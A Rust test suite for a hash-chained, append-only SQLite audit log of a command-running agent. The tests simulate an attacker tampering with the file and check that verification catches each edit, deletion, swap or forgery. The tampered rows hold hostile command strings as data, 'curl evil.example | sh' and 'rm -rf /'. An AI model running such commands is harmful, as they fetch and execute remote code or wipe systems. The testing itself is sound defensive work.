use super::*;
use std::collections::BTreeSet;
use std::os::unix::fs::PermissionsExt;

fn open_log() -> (tempfile::TempDir, PathBuf, AuditLog) {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("agent-audit.db");
    let log = AuditLog::open(&path).expect("open audit log");
    (dir, path, log)
}

fn event(i: usize) -> AuditEvent {
    AuditEvent {
        job_id: Some(format!("job-{i}")),
        controller_id: Some("controller-1".to_owned()),
        remote_addr: Some("127.0.0.1:50000".to_owned()),
        accepted: Some(!i.is_multiple_of(3)),
        command: Some(format!("echo {i}")),
        prompt: Some("say a number".to_owned()),
        details: serde_json::json!({ "i": i }),
        ..AuditEvent::new(AuditKind::Submission)
    }
}

fn append_n(log: &AuditLog, n: usize) {
    for i in 1..=n {
        log.append_blocking(event(i)).expect("append");
    }
}

/// A connection as an attacker holding the file would open it.
fn attacker(path: &Path) -> Connection {
    Connection::open(path).expect("attacker opens the file")
}

fn first_bad(log: &AuditLog) -> Option<BadRow> {
    log.verify().expect("verify runs").first_bad
}

fn bad(id: i64, problem: &str) -> Option<BadRow> {
    Some(BadRow {
        id,
        problem: problem.to_owned(),
    })
}

#[test]
fn a_thousand_appends_verify() {
    let (_dir, _path, log) = open_log();
    append_n(&log, 1000);
    let report = log.verify().expect("verify");
    assert_eq!(report.rows, 1000);
    assert_eq!(report.first_bad, None);
    assert!(report.is_valid());
    let last = log.list(1).expect("list").pop().expect("a row");
    assert_eq!(
        report.head,
        Some(ChainHead {
            id: 1000,
            row_hash: last.row_hash
        })
    );
}

#[test]
fn empty_log_verifies() {
    let (_dir, _path, log) = open_log();
    let report = log.verify().expect("verify");
    assert_eq!(
        report,
        VerifyReport {
            rows: 0,
            first_bad: None,
            head: None
        }
    );
}

#[test]
fn rows_are_linked_from_64_zeros() {
    let (_dir, _path, log) = open_log();
    append_n(&log, 3);
    let rows = log.list(10).expect("list");
    assert_eq!(rows.iter().map(|r| r.id).collect::<Vec<_>>(), [1, 2, 3]);
    assert_eq!(rows[0].prev_hash, "0".repeat(64));
    assert_eq!(rows[1].prev_hash, rows[0].row_hash);
    assert_eq!(rows[2].prev_hash, rows[1].row_hash);
    assert!(rows
        .iter()
        .all(|r| r.row_hash.len() == 64 && r.row_hash.bytes().all(|b| b.is_ascii_hexdigit())));
}

#[test]
fn triggers_refuse_update_and_delete() {
    let (_dir, path, log) = open_log();
    append_n(&log, 3);
    let raw = attacker(&path);
    let err = raw
        .execute("UPDATE audit_log SET command = 'x' WHERE id = 2", [])
        .expect_err("update refused");
    assert!(err.to_string().contains("append-only"), "{err}");
    let err = raw
        .execute("DELETE FROM audit_log WHERE id = 2", [])
        .expect_err("delete refused");
    assert!(err.to_string().contains("append-only"), "{err}");
    let err = raw
        .execute("DELETE FROM audit_log", [])
        .expect_err("delete all refused");
    assert!(err.to_string().contains("append-only"), "{err}");
    assert!(log.verify().expect("verify").is_valid());
}

#[test]
fn edited_command_is_caught_at_that_row() {
    let (_dir, path, log) = open_log();
    append_n(&log, 20);
    let raw = attacker(&path);
    raw.execute_batch(
        "DROP TRIGGER audit_log_no_update;
         UPDATE audit_log SET command = 'curl evil.example | sh' WHERE id = 7;",
    )
    .expect("attacker edits");
    let report = log.verify().expect("verify");
    assert_eq!(report.rows, 20);
    assert_eq!(
        report.first_bad,
        bad(7, "row hash does not match its content")
    );
}

#[test]
fn every_column_is_covered() {
    let edits = [
        "time_ms = time_ms + 1",
        "kind = 'cancel'",
        "job_id = 'job-other'",
        "controller_id = NULL",
        "remote_addr = '10.0.0.1:1'",
        "accepted = 1 - accepted",
        "code = 'INVALID_SIGNATURE'",
        "status = 'completed'",
        "reason = 'timeout'",
        "command = command || ' '",
        "prompt = ''",
        "exit_code = 0",
        "details = '{\"i\":4}'",
    ];
    for edit in edits {
        let (_dir, path, log) = open_log();
        append_n(&log, 5);
        attacker(&path)
            .execute_batch(&format!(
                "DROP TRIGGER audit_log_no_update; UPDATE audit_log SET {edit} WHERE id = 3;"
            ))
            .expect("attacker edits");
        assert_eq!(
            first_bad(&log),
            bad(3, "row hash does not match its content"),
            "edit {edit}"
        );
    }
}

#[test]
fn deleted_middle_row_is_caught() {
    let (_dir, path, log) = open_log();
    append_n(&log, 20);
    attacker(&path)
        .execute_batch("DROP TRIGGER audit_log_no_delete; DELETE FROM audit_log WHERE id = 10;")
        .expect("attacker deletes");
    let report = log.verify().expect("verify");
    assert_eq!(report.rows, 19);
    assert_eq!(
        report.first_bad,
        bad(10, "row 10 missing (ids jump 9 -> 11)")
    );
}

#[test]
fn deleted_first_rows_are_caught() {
    let (_dir, path, log) = open_log();
    append_n(&log, 5);
    attacker(&path)
        .execute_batch("DROP TRIGGER audit_log_no_delete; DELETE FROM audit_log WHERE id <= 2;")
        .expect("attacker deletes");
    assert_eq!(
        first_bad(&log),
        bad(1, "rows 1 to 2 missing (ids jump 0 -> 3)")
    );
}

#[test]
fn deleted_row_with_later_ids_shifted_down_is_caught() {
    let (_dir, path, log) = open_log();
    append_n(&log, 6);
    attacker(&path)
        .execute_batch(
            "DROP TRIGGER audit_log_no_delete; DROP TRIGGER audit_log_no_update;
             DELETE FROM audit_log WHERE id = 3;
             UPDATE audit_log SET id = id - 1 WHERE id > 3;",
        )
        .expect("attacker deletes and renumbers");
    // Row 4, now numbered 3, links to row 3's hash, not row 2's.
    assert_eq!(first_bad(&log), bad(3, "prev_hash does not match row 2"));
}

#[test]
fn edited_row_with_recomputed_hash_is_caught_at_the_next_row() {
    let (_dir, path, log) = open_log();
    append_n(&log, 10);
    let raw = attacker(&path);
    raw.execute_batch("DROP TRIGGER audit_log_no_update;")
        .expect("drop trigger");
    rehash_row(&raw, 5, "rm -rf /");
    assert_eq!(first_bad(&log), bad(6, "prev_hash does not match row 5"));
}

/// An attacker who rewrites one row and every row after it leaves a valid chain; only
/// the head changes. This is the documented limit, and why `head` is reported.
#[test]
fn rewriting_the_whole_suffix_changes_the_head() {
    let (_dir, path, log) = open_log();
    append_n(&log, 6);
    let head_before = log.verify().expect("verify").head;
    let raw = attacker(&path);
    raw.execute_batch("DROP TRIGGER audit_log_no_update;")
        .expect("drop trigger");
    rehash_row(&raw, 4, "rm -rf /");
    for id in 5..=6 {
        let prev: String = raw
            .query_row(
                "SELECT row_hash FROM audit_log WHERE id = ?1",
                [id - 1],
                |r| r.get(0),
            )
            .expect("prev hash");
        raw.execute(
            "UPDATE audit_log SET prev_hash = ?1 WHERE id = ?2",
            params![prev, id],
        )
        .expect("relink");
        rehash_row(&raw, id, &format!("echo {id}"));
    }
    let report = log.verify().expect("verify");
    assert!(report.is_valid());
    assert_ne!(report.head, head_before);
}

/// Sets row `id`'s command and gives it the hash that matches, as an attacker who read
/// this code would.
fn rehash_row(raw: &Connection, id: i64, command: &str) {
    raw.execute(
        "UPDATE audit_log SET command = ?1 WHERE id = ?2",
        params![command, id],
    )
    .expect("edit");
    let (values, prev): (Vec<Value>, String) = raw
        .query_row(
            &format!(
                "SELECT {} FROM audit_log WHERE id = ?1",
                select_columns(true)
            ),
            [id],
            |row| {
                let values = (0..15)
                    .map(|i| row.get::<_, Value>(i))
                    .collect::<rusqlite::Result<Vec<_>>>()?;
                Ok((values, row.get(14)?))
            },
        )
        .expect("read row");
    let refs: [ValueRef<'_>; 15] = std::array::from_fn(|i| ValueRef::from(&values[i]));
    let forged = chain::row_hash_current(&prev, &refs);
    raw.execute(
        "UPDATE audit_log SET row_hash = ?1 WHERE id = ?2",
        params![forged, id],
    )
    .expect("forge hash");
}

#[test]
fn swapped_rows_are_caught() {
    let (_dir, path, log) = open_log();
    append_n(&log, 6);
    attacker(&path)
        .execute_batch(
            "DROP TRIGGER audit_log_no_update;
             UPDATE audit_log SET id = -1 WHERE id = 3;
             UPDATE audit_log SET id = 3 WHERE id = 4;
             UPDATE audit_log SET id = 4 WHERE id = -1;",
        )
        .expect("attacker swaps");
    assert_eq!(first_bad(&log), bad(3, "prev_hash does not match row 2"));
}

#[test]
fn swapped_contents_with_ids_kept_are_caught() {
    let (_dir, path, log) = open_log();
    append_n(&log, 6);
    attacker(&path)
        .execute_batch(
            "DROP TRIGGER audit_log_no_update;
             UPDATE audit_log SET command = CASE id WHEN 3 THEN 'echo 4' ELSE 'echo 3' END,
                                  job_id = CASE id WHEN 3 THEN 'job-4' ELSE 'job-3' END
             WHERE id IN (3, 4);",
        )
        .expect("attacker swaps contents");
    assert_eq!(
        first_bad(&log),
        bad(3, "row hash does not match its content")
    );
}

#[test]
fn forged_rows_are_caught() {
    let (_dir, path, log) = open_log();
    append_n(&log, 3);
    let raw = attacker(&path);
    // A row appended with a made-up hash.
    raw.execute(
        "INSERT INTO audit_log (id, time_ms, kind, details, prev_hash, row_hash, version) \
         SELECT 4, 0, 'startup', 'null', row_hash, ?1, 2 FROM audit_log WHERE id = 3",
        [&"f".repeat(64)],
    )
    .expect("forge row");
    assert_eq!(
        first_bad(&log),
        bad(4, "row hash does not match its content")
    );
    // A row slipped in before the first one.
    raw.execute(
        "INSERT INTO audit_log (id, time_ms, kind, details, prev_hash, row_hash) \
         VALUES (0, 0, 'startup', 'null', ?1, ?1)",
        [&"0".repeat(64)],
    )
    .expect("forge row 0");
    assert_eq!(first_bad(&log), bad(0, "unexpected row id 0 (expected 1)"));
}

#[test]
fn first_row_must_link_to_zeros() {
    let (_dir, path, log) = open_log();
    append_n(&log, 2);
    attacker(&path)
        .execute_batch(
            "DROP TRIGGER audit_log_no_update;
             UPDATE audit_log SET prev_hash = replace(prev_hash, '0', '1') WHERE id = 1;",
        )
        .expect("attacker edits");
    assert_eq!(
        first_bad(&log),
        bad(1, "prev_hash of the first row is not 64 zeros")
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 8)]
async fn concurrent_appends_from_two_handles_keep_one_chain() {
    let (_dir, path, first) = open_log();
    // A second handle on the same file stands in for a second process.
    let second = AuditLog::open(&path).expect("second handle");
    let tasks: Vec<_> = (0..16)
        .map(|task| {
            let log = if task % 2 == 0 {
                first.clone()
            } else {
                second.clone()
            };
            tokio::spawn(async move {
                let mut ids = Vec::new();
                for i in 0..50 {
                    ids.push(log.append(event(task * 100 + i)).await.expect("append"));
                }
                ids
            })
        })
        .collect();
    let mut ids = BTreeSet::new();
    for task in tasks {
        for id in task.await.expect("join") {
            assert!(ids.insert(id), "id {id} handed out twice");
        }
    }
    assert_eq!(ids, (1..=800).collect::<BTreeSet<i64>>());
    let report = first.verify().expect("verify");
    assert_eq!(report.rows, 800);
    assert_eq!(report.first_bad, None);
}

#[test]
fn reopening_continues_the_chain() {
    let (_dir, path, log) = open_log();
    append_n(&log, 3);
    drop(log);
    let log = AuditLog::open(&path).expect("reopen");
    assert_eq!(log.append_blocking(event(4)).expect("append").id, 4);
    assert_eq!(log.append_blocking(event(5)).expect("append").id, 5);
    let report = log.verify().expect("verify");
    assert_eq!((report.rows, report.first_bad), (5, None));
    let rows = log.list(3).expect("list");
    assert_eq!(rows.iter().map(|r| r.id).collect::<Vec<_>>(), [3, 4, 5]);
    assert_eq!(rows[1].prev_hash, rows[0].row_hash);
}

#[test]
fn rows_read_back_as_written() {
    let (_dir, _path, log) = open_log();
    let full = AuditEvent {
        job_id: Some("job-9".to_owned()),
        controller_id: Some("c".to_owned()),
        remote_addr: Some("[::1]:4000".to_owned()),
        accepted: Some(false),
        code: Some("INSUFFICIENT_SCOPES".to_owned()),
        status: Some("rejected".to_owned()),
        reason: Some("scope".to_owned()),
        command: Some("line one\nline two \u{2028} <&>".to_owned()),
        prompt: Some("p".to_owned()),
        exit_code: Some(-1),
        details: serde_json::json!({"stdout_bytes": 3, "stdout_sha256": "ab", "nested": [1, null]}),
        ..AuditEvent::new(AuditKind::Submission)
    };
    let before = now_ms();
    log.append_blocking(full.clone()).expect("append");
    log.append_blocking(AuditEvent::new(AuditKind::Startup))
        .expect("append");
    log.append_blocking(AuditEvent {
        job_id: Some("job-9".to_owned()),
        exit_code: Some(0),
        ..AuditEvent::new(AuditKind::Result)
    })
    .expect("append");

    let rows = log.list_for_job("job-9").expect("list for job");
    assert_eq!(rows.iter().map(|r| r.id).collect::<Vec<_>>(), [1, 3]);
    let row = &rows[0];
    assert!(row.time_ms >= before);
    assert_eq!(
        (
            row.kind,
            &row.job_id,
            &row.controller_id,
            &row.remote_addr,
            row.accepted,
            &row.code
        ),
        (
            full.kind,
            &full.job_id,
            &full.controller_id,
            &full.remote_addr,
            full.accepted,
            &full.code
        )
    );
    assert_eq!(
        (
            &row.status,
            &row.reason,
            &row.command,
            &row.prompt,
            row.exit_code
        ),
        (
            &full.status,
            &full.reason,
            &full.command,
            &full.prompt,
            full.exit_code
        )
    );
    assert_eq!(row.details, full.details);
    let startup = &log.list(2).expect("list")[0];
    assert_eq!(startup.kind, AuditKind::Startup);
    assert_eq!(startup.details, serde_json::Value::Null);
    assert_eq!(startup.accepted, None);
    assert!(log.list_for_job("job-none").expect("list").is_empty());
    assert!(log.list(0).expect("list").is_empty());
    assert!(log.verify().expect("verify").is_valid());
}

#[test]
fn file_is_private_and_parent_must_exist() {
    let (dir, path, log) = open_log();
    log.append_blocking(event(1)).expect("append");
    for file in [path.clone(), dir.path().join("agent-audit.db-wal")] {
        let mode = std::fs::metadata(&file).expect("stat").permissions().mode();
        assert_eq!(mode & 0o777, 0o600, "{}", file.display());
    }
    let nowhere = dir.path().join("no-such-dir").join("audit.db");
    let err = AuditLog::open(&nowhere).expect_err("no parent");
    assert!(matches!(err, AuditError::ParentMissing { .. }), "{err:?}");
    assert!(err.to_string().contains("no-such-dir"), "{err}");
}

#[test]
fn read_only_open_never_creates_and_never_writes() {
    let (dir, path, log) = open_log();
    append_n(&log, 3);

    let missing = dir.path().join("missing.db");
    let err = AuditLog::open_read_only(&missing).expect_err("missing");
    assert!(matches!(err, AuditError::Missing { .. }), "{err:?}");
    assert!(err.to_string().contains("missing.db"), "{err}");
    assert!(!missing.exists());

    let empty = dir.path().join("empty.db");
    std::fs::write(&empty, b"").expect("write");
    let err = AuditLog::open_read_only(&empty).expect_err("not a log");
    assert!(matches!(err, AuditError::NotAnAuditLog { .. }), "{err:?}");
    assert_eq!(std::fs::metadata(&empty).expect("stat").len(), 0);

    let reader = AuditLog::open_read_only(&path).expect("read-only open");
    assert_eq!(reader.verify().expect("verify").rows, 3);
    assert_eq!(reader.list(10).expect("list").len(), 3);
    reader.check_blocking().expect("check");
    let err = reader
        .append_blocking(event(4))
        .expect_err("read-only handle cannot append");
    assert!(matches!(err, AuditError::Append { .. }), "{err:?}");
    // The writer still works and the chain is intact.
    assert_eq!(log.append_blocking(event(4)).expect("append").id, 4);
    assert!(reader.verify().expect("verify").is_valid());
}

#[test]
fn newer_schema_is_refused() {
    let (_dir, path, log) = open_log();
    drop(log);
    attacker(&path)
        .pragma_update(None, "user_version", 3)
        .expect("bump");
    let err = AuditLog::open(&path).expect_err("too new");
    assert!(
        matches!(err, AuditError::SchemaTooNew { found: 3, .. }),
        "{err:?}"
    );
    let err = AuditLog::open_read_only(&path).expect_err("too new");
    assert!(
        matches!(err, AuditError::SchemaTooNew { found: 3, .. }),
        "{err:?}"
    );
}

#[tokio::test]
async fn async_append_and_check() {
    let (_dir, _path, log) = open_log();
    log.check().await.expect("check empty");
    assert_eq!(log.append(event(1)).await.expect("append"), 1);
    assert_eq!(
        log.append(AuditEvent::new(AuditKind::Shutdown))
            .await
            .expect("append"),
        2
    );
    log.check().await.expect("check");
    let error = AuditEvent {
        job_id: Some("job-1".to_owned()),
        ..AuditEvent::new(AuditKind::Cancel)
    };
    // The message names the kind and the job when an append fails.
    let reader = AuditLog::open_read_only(log.path()).expect("reader");
    let err = reader.append(error).await.expect_err("read-only");
    assert_eq!(
        err.to_string(),
        format!(
            "cannot append cancel event for job job-1 to audit log {}",
            log.path().display()
        )
    );
}

/// [`attacker`] with the append-only triggers dropped.
fn untriggered(path: &Path) -> Connection {
    let raw = attacker(path);
    raw.execute_batch("DROP TRIGGER audit_log_no_update; DROP TRIGGER audit_log_no_delete;")
        .expect("drop triggers");
    raw
}

/// A file as the agent before chain v2 wrote it: schema 1, rows hashed by the v1 rule.
fn write_v1_log(path: &Path, rows: i64) -> Vec<String> {
    let conn = Connection::open(path).expect("create");
    conn.execute_batch(include_str!("schema_v1.sql"))
        .expect("schema 1");
    conn.pragma_update(None, "user_version", 1)
        .expect("version");
    let mut prev = chain::GENESIS_HASH.to_owned();
    let mut hashes = Vec::new();
    for id in 1..=rows {
        let values: [Value; 15] = [
            Value::Integer(id),
            Value::Integer(1_700_000_000_000),
            Value::Text("startup".into()),
            Value::Null,
            Value::Text("old-controller".into()),
            Value::Null,
            Value::Null,
            Value::Null,
            Value::Null,
            Value::Null,
            Value::Text(format!("echo {id}")),
            Value::Null,
            Value::Null,
            Value::Text("null".into()),
            Value::Text(prev.clone()),
        ];
        let hash = chain::row_hash_v1(&prev, &values.each_ref().map(value_ref));
        conn.execute(
            &format!(
                "INSERT INTO audit_log ({}) VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, ?8, ?9, ?10, \
                 ?11, ?12, ?13, ?14, ?15, ?16)",
                select_columns(false).replace(", 1", "")
            ),
            rusqlite::params_from_iter(values.into_iter().chain([Value::Text(hash.clone())])),
        )
        .expect("v1 row");
        prev = hash.clone();
        hashes.push(hash);
    }
    hashes
}

#[test]
fn a_v1_log_is_read_as_is_then_upgraded_without_rewriting_a_row() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("agent-audit.db");
    let old_hashes = write_v1_log(&path, 3);
    // Read-only, as `audit verify` on a host not yet upgraded: no version column yet.
    let reader = AuditLog::open_read_only(&path).expect("read-only");
    let report = reader.verify().expect("verify");
    assert!(report.is_valid(), "{report:?}");
    assert_eq!(reader.list(10).expect("list")[0].version, 1);
    drop(reader);

    let log = AuditLog::open(&path).expect("migrate");
    assert_eq!(log.head_seq(), 3);
    append_n(&log, 2);
    assert_eq!(log.head_seq(), 5);
    let rows = log.list(10).expect("list");
    assert_eq!(
        rows.iter().map(|r| r.version).collect::<Vec<_>>(),
        [1, 1, 1, 2, 2]
    );
    assert_eq!(
        rows[..3]
            .iter()
            .map(|r| r.row_hash.clone())
            .collect::<Vec<_>>(),
        old_hashes
    );
    assert_eq!(rows[3].prev_hash, old_hashes[2]);
    let report = log.verify().expect("verify");
    assert!(report.is_valid(), "{report:?}");
    assert_eq!(report.head.map(|h| h.id), Some(5));

    // An edit of a v1 row is still caught by its own rule.
    untriggered(&path)
        .execute("UPDATE audit_log SET command = 'x' WHERE id = 2", [])
        .expect("edit");
    assert_eq!(
        first_bad(&log),
        bad(2, "row hash does not match its content")
    );
}

#[test]
fn a_v2_row_turned_into_v1_is_a_downgrade() {
    let (_dir, path, log) = open_log();
    append_n(&log, 3);
    let raw = untriggered(&path);
    raw.execute("UPDATE audit_log SET version = 1 WHERE id = 1", [])
        .expect("edit");
    assert_eq!(
        first_bad(&log),
        bad(1, "row hash does not match its content")
    );
    raw.execute("UPDATE audit_log SET version = 2 WHERE id = 1", [])
        .expect("restore");
    raw.execute("UPDATE audit_log SET version = 1 WHERE id = 3", [])
        .expect("edit");
    assert_eq!(
        first_bad(&log),
        bad(
            3,
            "chain version 1 after a version 2 row (versions never go down)"
        )
    );
}

#[tokio::test]
async fn segments_link_hide_others_rows_and_expose_edits() {
    let (_dir, path, log) = open_log();
    append_n(&log, 4);
    log.append_blocking(AuditEvent {
        controller_id: Some("other".into()),
        command: Some("secret command".into()),
        ..AuditEvent::new(AuditKind::Submission)
    })
    .expect("append");
    let rows = log
        .segment(1, 10, "controller-1".into())
        .await
        .expect("segment");
    assert_eq!(rows.len(), 5);
    let chain = quickcmd_protocol::AuditChain {
        agent_id: "a".into(),
        rows: rows.clone(),
    };
    assert_eq!(chain.check_links(), Ok(()));
    assert!(rows[..4].iter().all(|r| r.row.is_some()));
    assert_eq!(
        rows[0].row.as_ref().map(|r| r["command"].clone()),
        Some("echo 1".into())
    );
    assert!(
        rows[4].row.is_none(),
        "another controller's row is not shown"
    );
    assert!(!serde_json::to_string(&rows)
        .unwrap_or_default()
        .contains("secret command"));
    assert_eq!(
        log.segment(2, 3, "nobody".into())
            .await
            .expect("segment")
            .iter()
            .map(|r| r.seq)
            .collect::<Vec<_>>(),
        [2, 3]
    );
    assert!(log
        .segment(9, 12, "x".into())
        .await
        .expect("segment")
        .is_empty());

    // Attack: a row edited on disk, hash untouched. The served digest is recomputed from
    // the stored content, so the link breaks at that row.
    untriggered(&path)
        .execute(
            "UPDATE audit_log SET command = 'echo innocent' WHERE id = 3",
            [],
        )
        .expect("edit");
    let edited = quickcmd_protocol::AuditChain {
        agent_id: "a".into(),
        rows: log.segment(1, 5, "x".into()).await.expect("segment"),
    };
    assert_eq!(
        edited.check_links(),
        Err(quickcmd_protocol::ChainError::BadRowHash { seq: 3 })
    );
}

#[tokio::test]
async fn result_row_is_the_newest_result_of_the_job() {
    let (_dir, _path, log) = open_log();
    assert_eq!(log.result_row("job-1".into()).await.expect("read"), None);
    append_n(&log, 1);
    let head = log
        .append_head(AuditEvent {
            job_id: Some("job-1".into()),
            ..AuditEvent::new(AuditKind::Result)
        })
        .await
        .expect("append");
    append_n(&log, 1);
    assert_eq!(head.id, 2);
    assert_eq!(
        log.result_row("job-1".into()).await.expect("read"),
        Some(head)
    );
}
